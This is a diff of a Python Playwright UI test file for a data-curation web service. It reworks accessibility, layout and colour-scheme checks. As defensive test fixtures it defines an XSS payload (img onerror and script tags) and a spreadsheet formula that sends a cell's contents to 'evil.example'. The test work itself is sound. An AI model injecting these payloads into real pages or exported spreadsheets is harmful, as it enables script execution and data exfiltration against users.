@@ -9,17 +9,17 @@ from collections.abc import Iterator
 from contextlib import closing, contextmanager
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
-from typing import Any
+from typing import Any, Literal
 
 import pandas as pd
 import pytest
-from axe_playwright_python.sync_playwright import Axe
 from playwright.sync_api import Browser, Page, expect
 
 from dpnb.curator.disclosure import verify
 from dpnb.errors import DpnbError, ExecutionStopped
 from dpnb.ledger.charge import result_hash
 from dpnb.session.backup import back_up
+from ui.accessible import problems
 from ui.console import Console, keep_picture
 from ui.curator import PARTS, Service, login
 from waiting import LIMIT_MS, wait_until
@@ -28,6 +28,8 @@ pytestmark = [pytest.mark.ui, pytest.mark.waits]
 
 HTML = "<img src=x onerror=\"globalThis.hit='why'\"><script>globalThis.hit='why'</script>"
 LONG = f"{HTML} {'x' * 250} \u05e9\u05dc\u05d5\u05dd"
+SCHEMES: tuple[Literal["dark", "light"], ...] = ("dark", "light")
+WIDTHS = (360, 1200)
 FORMULA = '=HYPERLINK("http://evil.example/"&A1)'
 
 
@@ -65,6 +67,15 @@ def frozen(service: Service, page: Page) -> bool:
 
 def width_of(page: Page) -> Any:
     return page.evaluate("document.documentElement.scrollWidth - document.documentElement.clientWidth")
+
+
+def overflows(page: Page) -> list[int]:
+    """At which widths the page is wider than its window."""
+    wider = []
+    for width in WIDTHS:
+        page.set_viewport_size({"width": width, "height": 800})
+        wider += [width] if width_of(page) else []
+    return wider
 
 
 def hostile(service: Service) -> None:
@@ -124,9 +135,7 @@ def test_the_page_follows_analysts_and_says_when_it_cannot(browser: Browser, ser
     page.close()
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-def test_a_request_is_approved_in_the_browser(scheme: Any, page: Page, service: Service) -> None:
-    page.emulate_media(color_scheme=scheme)
+def test_a_request_is_approved_in_the_browser(page: Page, service: Service) -> None:
     login(page, service, service.token("eve", "curator"))
     ana = service.token("ana")
     with pytest.raises(DpnbError):
@@ -135,12 +144,16 @@ def test_a_request_is_approved_in_the_browser(scheme: Any, page: Page, service: 
     request = page.get_by_role("article").filter(has_text="The annual report")
     expect(request).to_be_visible()
     expect(request.get_by_role("row").filter(has_text="count of rows")).to_contain_text("rows at 95% (noise)")
-    keep_picture(page, f"curator-{scheme}", full_page=True)
+    for scheme in SCHEMES:
+        page.emulate_media(color_scheme=scheme)
+        keep_picture(page, f"curator-{scheme}", full_page=True)
     request.get_by_role("button", name="Approve…").click()
     dialog = page.get_by_role("dialog", name="Approve the request of ana")
     expect(dialog).to_contain_text("after an approval")
     dialog.get_by_label("Remark").fill("for the report")
-    keep_picture(page, f"curator-dialog-{scheme}")
+    for scheme in SCHEMES:
+        page.emulate_media(color_scheme=scheme)
+        keep_picture(page, f"curator-dialog-{scheme}")
     dialog.get_by_role("button", name="Approve mu").click()
     expect(dialog).to_have_count(0)
     expect(page.get_by_text("No request is pending.")).to_be_visible()
@@ -150,25 +163,23 @@ def test_a_request_is_approved_in_the_browser(scheme: Any, page: Page, service: 
     ).not_to_have_count(0)
 
 
-@pytest.mark.parametrize("width", [360, 1200])
-def test_hostile_texts_execute_nothing_and_break_no_layout(width: int, page: Page, service: Service) -> None:
+def test_hostile_texts_execute_nothing_and_break_no_layout(page: Page, service: Service) -> None:
     hostile(service)
     page.on("dialog", lambda dialog: pytest.fail(dialog.message))
-    page.set_viewport_size({"width": width, "height": 800})
     login(page, service, service.token("eve", "curator"))
     request = page.get_by_role("article")
     expect(request).to_contain_text(HTML)
     expect(page.locator(".dpnb-log-row").filter(has_text="because: <img")).to_be_visible()
     assert page.evaluate("document.querySelectorAll('img, #cockpit script, iframe').length") == 0
     assert page.evaluate("globalThis.hit") is None
-    assert width_of(page) == 0
+    assert overflows(page) == []
     request.get_by_role("button", name="Approve in part…").click()
-    assert width_of(page) == 0
+    assert overflows(page) == []
     page.keyboard.press("Escape")
     page.get_by_role("link", name="claims").click()
     expect(page.get_by_role("heading", level=1)).to_have_text("claims")
     expect(page.get_by_role("row").filter(has_text="zzz")).not_to_have_count(0)
-    assert width_of(page) == 0
+    assert overflows(page) == []
 
 
 def test_markup_would_be_seen(browser: Browser, service: Service) -> None:
@@ -239,29 +250,21 @@ def test_an_auditor_has_no_button_that_acts(page: Page, service: Service) -> Non
     expect(ledger.get_by_text("Figures of the service", exact=True)).to_be_hidden()
 
 
-@pytest.mark.parametrize("scheme", ["light", "dark"])
-@pytest.mark.parametrize("width", [360, 1200])
-def test_axe_finds_no_problem(scheme: Any, width: int, page: Page, service: Service) -> None:
-    page.emulate_media(color_scheme=scheme)
-    page.set_viewport_size({"width": width, "height": 800})
+def test_axe_finds_no_problem(page: Page, service: Service) -> None:
     page.goto(service.url)
-    check(page)
+    check_everywhere(page)
     service.request(service.token("ana"), "visits", "a reason")
     login(page, service, service.token("eve", "curator"))
     page.get_by_role("article").wait_for()
     page.get_by_text("Figures of the service", exact=True).click()
     page.get_by_text("Versions of the table (1)").click()
-    check(page)
-    sizes = page.evaluate(SIZES_OF_TEXTS)
-    assert sizes
-    assert min(sizes) >= 12
-    assert width_of(page) == 0
+    check_everywhere(page)
     page.get_by_role("button", name="Approve in part…").click()
-    check(page)
+    check_everywhere(page)
     page.keyboard.press("Escape")
     page.get_by_role("button", name="Move the cap of ana").click()
     expect(page.get_by_label("Percent")).to_have_value("50")
-    check(page)
+    check_everywhere(page)
 
 
 SIZES_OF_TEXTS = """() => {
@@ -277,10 +280,15 @@ SIZES_OF_TEXTS = """() => {
 }"""
 
 
-def check(page: Page) -> None:
-    found = Axe().run(page).response
-    assert [(one["id"], [node["html"][:200] for node in one["nodes"]]) for one in found["violations"]] == []
-    assert len(found["passes"]) > 5, "axe looked at nothing"
+def check_everywhere(page: Page) -> None:
+    """Check the page at each width and in each scheme."""
+    for width in WIDTHS:
+        page.set_viewport_size({"width": width, "height": 800})
+        for scheme in SCHEMES:
+            page.emulate_media(color_scheme=scheme)
+            assert problems(page, only_colours=scheme == "dark") == [], (width, scheme)
+        assert min(page.evaluate(SIZES_OF_TEXTS)) >= 12, width
+        assert width_of(page) == 0, width
 
 
 def test_a_new_token_is_shown_once_and_works(page: Page, service: Service) -> None:
@@ -307,7 +315,7 @@ def test_people_come_and_go_on_the_page(page: Page, service: Service) -> None:
     page.get_by_role("button", name="Add analyst…").click()
     dialog = page.get_by_role("dialog")
     expect(dialog.get_by_label("Ceiling, in percent")).to_have_value("15.0")  # what is left
-    check(page)
+    assert problems(page) == []
     keep_picture(page, "cockpit-add")
     dialog.get_by_label("Name").fill("dora")
     dialog.get_by_role("button", name="Add", exact=True).click()
@@ -401,8 +409,7 @@ def test_the_words_say_what_a_name_is_made_from_and_the_whole_plan_is_shown_on_r
     assert width_of(page) == 0
     asked.scroll_into_view_if_needed()
     keep_picture(page, "cockpit-plan", full_page=True)
-    violations = Axe().run(page).response["violations"]
-    assert [(one["id"], [node["html"][:200] for node in one["nodes"]]) for one in violations] == []
+    assert problems(page) == []
 
 
 def test_a_charge_that_a_crash_interrupted_is_resumed(browser: Browser, service: Service) -> None:
